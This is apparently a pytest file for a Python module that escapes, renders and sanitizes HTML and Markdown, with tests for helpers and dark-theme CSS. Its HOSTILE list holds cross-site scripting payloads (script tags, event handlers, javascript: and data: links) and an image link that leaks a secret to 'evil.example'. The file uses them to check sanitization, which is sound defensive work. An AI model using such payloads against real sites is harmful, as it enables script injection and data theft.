"""Tests for agentnb._html: escaping, safe Markdown and sanitizing of hostile input."""

from __future__ import annotations

import re
import subprocess
import sys
from html.parser import HTMLParser

import pytest

from agentnb import _html

HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<svg onload="alert(1)"></svg>',
    '<iframe src="https://example.com"></iframe>',
    '<p style="background:url(javascript:alert(1))" onmouseover="x()">hi</p>',
    "<style>body{display:none}</style>",
    '<a href="vbscript:msgbox(1)">v</a>',
    "![x](https://evil.example/leak?secret=1)",
    "<form action=x><input name=a></form>",
    '"><script>alert(1)</script>',
]


class _TagCollector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def _assert_safe(out: str) -> None:
    """Parse ``out`` as a browser would and check no active markup survived."""
    parser = _TagCollector()
    parser.feed(out)
    for tag, attrs in parser.tags:
        assert tag not in {"script", "style", "iframe", "svg", "img", "form", "input", "object", "embed"}, out
        for name, value in attrs:
            assert not name.startswith("on"), out
            assert name != "style", out
            if name in {"href", "src"}:
                assert (value or "").strip().lower().split(":")[0] in {"http", "https", "mailto"}, out


@pytest.mark.parametrize("text", HOSTILE)
def test_render_markdown_neutralizes_hostile_input(text: str) -> None:
    _assert_safe(_html.render_markdown(text))


@pytest.mark.parametrize("text", HOSTILE)
def test_sanitize_html_neutralizes_hostile_input(text: str) -> None:
    _assert_safe(_html.sanitize_html(text))


@pytest.mark.parametrize("text", HOSTILE)
def test_escape_leaves_no_markup(text: str) -> None:
    out = _html.escape(text)
    assert "<" not in out and ">" not in out and '"' not in out


def test_markdown_renders_formatting_tables_code_and_safe_links() -> None:
    out = _html.render_markdown(
        "# Title\n\n**bold** and *it* and `code` [site](https://example.com)\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint(1 < 2)\n```\n"
    )
    assert "<h1>Title</h1>" in out
    assert "<strong>bold</strong>" in out and "<em>it</em>" in out and "<code>code</code>" in out
    assert '<a href="https://example.com" rel="noopener noreferrer nofollow">site</a>' in out
    assert "<table>" in out and "<td>2</td>" in out
    assert "print(1 &lt; 2)" in out


def test_markdown_shows_raw_html_as_text_and_images_as_alt_text() -> None:
    out = _html.render_markdown("say <b>hi</b> ![a cat](https://x.example/cat.png)")
    assert "&lt;b&gt;hi&lt;/b&gt;" in out
    assert "[image: a cat]" in out
    assert 'title="https://x.example/cat.png"' in out


def test_sanitize_keeps_allowed_markup() -> None:
    out = _html.sanitize_html('<p class="x">a <strong>b</strong> <a href="mailto:a@b.c">m</a></p>')
    assert '<p class="x">' in out and "<strong>b</strong>" in out and 'href="mailto:a@b.c"' in out


def test_escape_handles_none_and_non_strings() -> None:
    assert _html.escape(None) == ""
    assert _html.escape(3) == "3"
    assert _html.escape("a'b") == "a&#x27;b"


def test_shorten() -> None:
    assert _html.shorten("abc", 3) == "abc"
    assert _html.shorten("abcd", 3) == "ab…"
    with pytest.raises(ValueError, match="limit must be >= 1"):
        _html.shorten("abc", 0)


def test_json_html_pretty_prints_json_strings_and_escapes() -> None:
    out = _html.json_html('{"city": "<b>Paris</b>"}')
    assert out.startswith("<pre>") and "&lt;b&gt;Paris&lt;/b&gt;" in out and "\n  &quot;city&quot;" in out
    assert _html.json_html("not json <x>") == "<pre>not json &lt;x&gt;</pre>"
    assert "&lt;object" in _html.json_html({"x": object()})


def test_helpers_escape_their_text() -> None:
    assert _html.badge("<x>", "ok") == '<span class="anb-badge anb-ok">&lt;x&gt;</span>'
    assert _html.badge("y", "bogus") == '<span class="anb-badge">y</span>'
    assert _html.details("s", "b", open=True) == "<details open><summary>s</summary>b</details>"
    assert "<th>&lt;k&gt;</th><td><i>v</i></td>" in _html.kv_table([("<k>", "<i>v</i>")])
    assert _html.kv_table([]) == ""
    t = _html.table(["<a>"], [["<b>"]])
    assert "<th>&lt;a&gt;</th>" in t and "<td>&lt;b&gt;</td>" in t
    assert _html.wrap("x").startswith('<div class="agentnb"><style>')


def test_module_imports_without_heavy_dependencies() -> None:
    code = (
        "import sys, agentnb._html as h; h.escape('x');"
        "bad = [m for m in ('markdown_it', 'nh3', 'IPython', 'ipywidgets', 'pandas') if m in sys.modules];"
        "print(bad)"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


def test_all_is_sorted() -> None:
    assert list(_html.__all__) == sorted(_html.__all__)


def test_every_light_tint_has_a_dark_shade_under_jupyterlab_and_devui_dark_themes() -> None:
    from agentnb.devui._widgets import DEVUI_CSS

    light = _html.STYLE.split('body[data-jp-theme-light="false"]', 1)[0]
    # A fixed (not theme-variable) background under theme-coloured text is the combination a dark theme breaks.
    tinted = {
        selector.strip()
        for block, declarations in re.findall(r"([^{}]+)\{([^{}]*)\}", light)
        if re.search(r"background:#", declarations) and "color:" not in declarations.replace("background", "")
        for selector in block.split(",")
    }
    assert ".agentnb tr.anb-rerun-changed" in tinted and ".agentnb .anb-msg.anb-tool" in tinted
    for scope, sheet in (('body[data-jp-theme-light="false"] .agentnb', _html.STYLE), (".agentnb.anb-dark", DEVUI_CSS)):
        for selector in tinted:
            dark = selector.replace(".agentnb", scope, 1)
            assert re.search(re.escape(dark) + r"(:not\([^)]*\))?[,{]", sheet), f"no dark shade for {selector}"
    assert _html.dark_css(".x").count(".x ") >= 9
